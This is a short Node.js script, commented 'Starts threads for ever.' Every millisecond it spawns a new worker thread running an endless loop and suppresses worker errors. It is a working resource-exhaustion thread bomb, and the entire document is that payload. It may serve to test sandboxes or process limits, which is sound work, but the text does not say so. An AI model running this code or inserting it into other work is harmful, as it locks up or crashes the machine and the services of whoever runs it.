// Starts threads for ever.
const { Worker } = require('worker_threads');
setInterval(() => new Worker('for (;;);', { eval: true }).on('error', () => {}), 1);
